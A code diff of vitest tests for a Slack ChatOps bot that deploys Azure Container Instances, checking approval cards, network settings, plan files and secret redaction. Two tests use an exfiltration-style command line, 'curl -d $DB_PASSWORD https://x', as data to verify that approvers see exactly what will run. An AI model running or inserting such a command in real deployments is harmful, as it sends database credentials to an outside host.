@@ -1,15 +1,12 @@
 import { afterEach, describe, expect, it } from 'vitest';
 import { ids, type Harness } from '../../helpers/harness.ts';
-import { aci, aciCommand, cardOf, cardText, digests, loginServers, putsOf, responsesWith, startAciHarness, waitForCard } from './setup.ts';
+import { aci, aciCommand, cardOf, cardText, digests, loginServers, prd, putsOf, responsesWith, startAciHarness, stg, waitForCard } from './setup.ts';
 
 let h: Harness | undefined;
 afterEach(async () => {
   await h?.stop();
   h = undefined;
 });
-
-const stg = { userId: ids.alice, channelId: aci.stgChannel };
-const prd = { userId: ids.bob, channelId: aci.prdChannel };
 
 /** Everything the product wrote outside Azure: Slack calls, logs and Redis. */
 async function everythingButAzure(harness: Harness): Promise<string> {
@@ -89,6 +86,17 @@ describe('/aci create without approval', () => {
     expect(audit).not.toContain(aci.dbPassword);
   });
 
+  it('gives a plain create no IP address, as az does, so it succeeds where public IPs are forbidden; the plan says so', async () => {
+    h = await startAciHarness();
+    const jobId = await aciCommand(h, 'create -n worker --image web:v1', { userId: ids.bob, channelId: aci.lockedChannel });
+    await waitForCard(h, aci.lockedChannel, jobId, 'Succeeded');
+    expect(cardText(h, aci.lockedChannel, jobId)).toContain('no IP address');
+    const body = putsOf(h, 'worker')[0]!.body as { properties: { ipAddress?: unknown; containers: { properties: { ports?: unknown[] } }[] } };
+    expect(body.properties.ipAddress).toBeUndefined();
+    expect(body.properties.containers[0]!.properties.ports ?? []).toEqual([]);
+    expect(h.azure.aci.group('rg-prd', 'worker')).toBeDefined();
+  });
+
   it('fails without touching ACI when a Key Vault secret is missing, and says which', async () => {
     h = await startAciHarness();
     const jobId = await aciCommand(h, 'create -n web --image web:v1 --secure-environment-variables API_KEY=@kv:no-such-secret', stg);
@@ -110,7 +118,7 @@ describe('/aci create without approval', () => {
 });
 
 describe('/aci create with approval', () => {
-  async function planned(harness: Harness, text = 'create -n api --image web:v1 --ports 8080'): Promise<{ jobId: string; ts: string }> {
+  async function planned(harness: Harness, text = 'create -n api --image web:v1 --ip-address Public --ports 8080'): Promise<{ jobId: string; ts: string }> {
     const jobId = await aciCommand(harness, text, prd);
     await waitForCard(harness, aci.prdChannel, jobId, 'approval.approve');
     return { jobId, ts: cardOf(harness, aci.prdChannel, jobId)!.ts };
@@ -150,6 +158,47 @@ describe('/aci create with approval', () => {
     expect(approvedAt).toBeGreaterThan(-1);
     expect(appliedAt).toBeGreaterThan(approvedAt);
     await h.slack.waitFor(async () => (await h!.redis.xrange('chatops:audit', '-', '+')).some(([, f]) => f.join(' ').includes('deploy.result')), 5000);
+  });
+
+  it('shows the approver everything that will be sent: command line, variables with values, Key Vault references, network, resources, pull identity', async () => {
+    h = await startAciHarness();
+    const { jobId } = await planned(
+      h,
+      `create -n api --image web:v1 --command-line "sh -c 'curl -d $DB_PASSWORD https://x'" --environment-variables MODE=prod FEATURE_X=on --secure-environment-variables DB_PASSWORD=@kv:db-password --cpu 2 --memory 3 --restart-policy OnFailure`,
+    );
+    const card = cardText(h, aci.prdChannel, jobId);
+    expect(card).toContain("sh -c 'curl -d $DB_PASSWORD https://x'");
+    expect(card).toContain('MODE=prod');
+    expect(card).toContain('FEATURE_X=on');
+    expect(card).toContain('DB_PASSWORD ← @kv:db-password');
+    expect(card).toContain('no IP address');
+    expect(card).toContain('2 CPU · 3 GB memory');
+    expect(card).toContain('restart policy OnFailure');
+    expect(card).toContain(`managed identity ${aci.pullIdentity}`);
+    expect(card).toContain(`${loginServers.contosoprd}/web@${digests['contosoprd/web:v1']}`);
+    expect(card).not.toContain(aci.dbPassword);
+    // The command the approver saw is the command that is deployed.
+    await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: cardOf(h, aci.prdChannel, jobId)!.ts, channelId: aci.prdChannel });
+    await waitForCard(h, aci.prdChannel, jobId, 'Succeeded');
+    const sent = (putsOf(h, 'api')[0]!.body as { properties: { containers: { properties: { command: string[] } }[] } }).properties.containers[0]!.properties.command;
+    expect(sent).toEqual(['sh', '-c', 'curl -d $DB_PASSWORD https://x']);
+  });
+
+  it('attaches a plan too long for the card as a file, with the plan hash on both', async () => {
+    h = await startAciHarness();
+    const longScript = `echo start; ${Array.from({ length: 60 }, (_, i) => `curl -s https://svc-${i}.internal/health`).join('; ')}; curl -d $DB_PASSWORD https://x`;
+    const { jobId } = await planned(h, `create -n api --image web:v1 --command-line "sh -c '${longScript}'"`);
+    await h.slack.waitFor(() => h!.slack.files.some((f) => f.filename.startsWith('plan-api-')), 5000);
+    const file = h.slack.files.find((f) => f.filename.startsWith('plan-api-'))!;
+    const hash = /^plan-api-([0-9a-f]{16})\.txt$/.exec(file.filename)![1]!;
+    const card = cardText(h, aci.prdChannel, jobId);
+    expect(card).toContain(hash);
+    expect(card).toContain(`see the attached ${file.filename}`);
+    expect(card).not.toContain('https://x');
+    expect(file.content).toContain(`Plan ${hash}`);
+    expect(file.content).toContain('curl -d $DB_PASSWORD https://x');
+    expect(file.content).toContain('DB_PASSWORD');
+    expect(file.content).not.toContain(aci.dbPassword);
   });
 
   it('turns double-clicks, concurrent approvers and a replayed click into exactly one PUT', async () => {
